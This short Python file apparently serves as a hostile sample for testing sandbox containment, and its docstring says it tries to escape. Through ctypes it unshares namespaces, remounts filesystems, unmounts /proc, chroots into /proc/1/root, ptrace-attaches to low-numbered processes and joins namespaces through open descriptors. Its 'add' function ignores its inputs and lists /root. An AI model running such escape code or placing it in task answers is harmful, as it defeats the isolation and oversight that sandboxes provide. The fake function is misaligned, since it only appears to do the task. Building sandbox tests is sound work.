"""Tries to leave by namespaces, mounts, tracing and changed roots."""

# %% new after add
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x00020000, 0x20000000, 0x40000000, 0x7C020000):
    libc.unshare(flags)
libc.mount(b"none", b"/mnt", b"tmpfs", 0, None)
libc.mount(b"/", b"/tmp", None, 4096, None)
libc.umount2(b"/proc", 2)
libc.chroot(b"/proc/1/root")
for process in range(1, 100):
    libc.ptrace(16, process, 0, 0)
for descriptor in range(3, 30):
    libc.setns(descriptor, 0)

# %% add
def add(a, b):
    return len(os.listdir("/root"))
